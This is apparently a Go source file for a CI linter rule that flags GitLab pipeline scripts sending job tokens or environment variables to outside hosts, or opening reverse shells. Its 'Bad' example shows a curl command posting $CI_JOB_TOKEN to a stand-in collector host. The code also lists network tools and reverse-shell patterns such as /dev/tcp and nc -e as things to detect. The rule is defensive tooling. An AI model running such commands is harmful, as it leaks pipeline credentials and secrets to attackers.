package gitlab

import (
	"net/url"
	"slices"
	"strings"

	"github.com/infralint/infralint/internal/gitlab"
	"github.com/infralint/infralint/internal/lint"
	"github.com/infralint/infralint/internal/shell"
)

// TokenExfiltration reports scripts that send out what they should not.
var TokenExfiltration = &gitlab.Analyzer{
	Rule: lint.Rule{
		ID:       "gitlab-token-exfiltration",
		Title:    "script sends a token or its environment away",
		Severity: lint.Error,
		Doc: `
The token of a job reads the project and whatever else lets it in, and the environment
of a job holds all of its variables. An address elsewhere that gets them can use them
while the job runs, and the variables for ever. A shell that is connected to another
machine is a way in for whoever listens there. Attackers add such lines; builds do not
need them.

Find out who added it, and change what the job had. A token that goes to the API of
GitLab, or to an address that a variable names, is not reported.
`,
		Bad: `
-- .gitlab-ci.yml --
test:
  script:
    - curl --data "token=$CI_JOB_TOKEN" https://collect.example.com
`,
		Good: `
-- .gitlab-ci.yml --
test:
  script:
    - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages"'
`,
		Tags:  []string{"security"},
		Peers: []string{"checkov:CKV_GITLABCI_1"},
		Refs:  []string{"https://docs.gitlab.com/ci/jobs/ci_job_token/"},
		Since: "0.1.0",
	},
	Run: func(pass *gitlab.Pass) error {
		for _, s := range pass.Unit.Scripts() {
			for _, c := range s.Commands {
				for _, message := range exfiltrations(s, c) {
					report(pass, s.Span(c.Start, c.End), "%s", message)
				}
			}
		}
		return nil
	},
}

// tokens are the variables of a job that let in whoever has them.
var tokens = []string{
	"CI_JOB_TOKEN", "CI_BUILD_TOKEN", "CI_JOB_JWT", "CI_JOB_JWT_V1", "CI_JOB_JWT_V2", "CI_REGISTRY_PASSWORD", "CI_DEPLOY_PASSWORD",
	"CI_DEPENDENCY_PROXY_PASSWORD", "CI_REPOSITORY_URL",
}

var senders = []string{"curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat"}

func exfiltrations(s *gitlab.Script, c *shell.Command) (messages []string) {
	if c.Is(senders...) {
		if name := tokenOf(c); name != "" {
			if host := foreignHost(c); host != "" {
				messages = append(messages, "$"+name+" is sent to "+host)
			}
		}
		if sendsEnvironment(s, c) {
			messages = append(messages, "environment, with the secrets of the job, is sent away")
		}
	}
	if connectsShell(c) {
		messages = append(messages, "shell is connected to another machine")
	}
	return messages
}

// tokenOf returns the name of a token among the arguments of c.
func tokenOf(c *shell.Command) string {
	for _, a := range c.Args {
		for _, e := range a.Expansions {
			if slices.Contains(tokens, e.Name) {
				return e.Name
			}
		}
	}
	return ""
}

// foreignHost returns a host among the arguments of c that is written out and no
// GitLab server.
func foreignHost(c *shell.Command) string {
	for _, a := range c.Args {
		text := a.Text
		if i := strings.Index(text, "://"); i < 0 || strings.ContainsAny(text[:i], " =:$") {
			continue
		}
		scheme, rest, _ := strings.Cut(text, "://")
		if i := strings.IndexAny(rest, "/?#"); i >= 0 {
			if strings.HasPrefix(rest[i:], "/api/v4/") || strings.HasPrefix(rest[i:], "/api/graphql") {
				continue
			}
			rest = rest[:i]
		}
		if at := strings.LastIndexByte(rest, '@'); at >= 0 {
			rest = rest[at+1:]
		}
		if rest == "" || strings.ContainsAny(rest, "$`{}") {
			continue
		}
		u, err := url.Parse(scheme + "://" + rest)
		if err != nil || u.Host == "" {
			continue
		}
		host := u.Hostname()
		if strings.Contains(host, "gitlab") || host == "localhost" || host == "127.0.0.1" || host == "jwt.io" {
			continue
		}
		return host
	}
	return ""
}

// sendsEnvironment reports whether c sends what env prints: through a pipe, or
// in an argument.
func sendsEnvironment(s *gitlab.Script, c *shell.Command) bool {
	for _, other := range s.Commands {
		if !printsEnvironment(other) {
			continue
		}
		if other.Inside == c || c.Pipeline > 0 && other.Pipeline == c.Pipeline && other.Stage < c.Stage && other.Inside == c.Inside {
			return true
		}
	}
	return false
}

func printsEnvironment(c *shell.Command) bool {
	switch {
	case c.Is("env", "printenv", "set"):
		return len(c.Args) == 0
	case c.Is("export", "declare"):
		return len(c.Args) == 1 && (c.Args[0].Text == "-p" || c.Args[0].Text == "-x") || c.Is("export") && len(c.Args) == 0
	case c.Is("cat"):
		return len(c.Args) == 1 && strings.HasSuffix(c.Args[0].Text, "/environ") && strings.HasPrefix(c.Args[0].Text, "/proc/")
	}
	return false
}

// connectsShell reports whether c is a shell whose input comes from another
// machine.
func connectsShell(c *shell.Command) bool {
	if shell.IsShell(c.Program()) || c.Is("exec") {
		for _, r := range c.Redirects {
			if strings.HasPrefix(r.Word.Text, "/dev/tcp/") || strings.HasPrefix(r.Word.Text, "/dev/udp/") {
				return true
			}
		}
	}
	if c.Is("nc", "ncat", "netcat") {
		return slices.ContainsFunc(c.Args, func(a shell.Word) bool {
			return a.Text == "--exec" || a.Text == "--sh-exec" || len(a.Text) > 1 && a.Text[0] == '-' && a.Text[1] != '-' && strings.ContainsAny(a.Text, "ec")
		})
	}
	if c.Is("socat") {
		return slices.ContainsFunc(c.Args, func(a shell.Word) bool { return strings.HasPrefix(strings.ToLower(a.Text), "exec:") })
	}
	return false
}
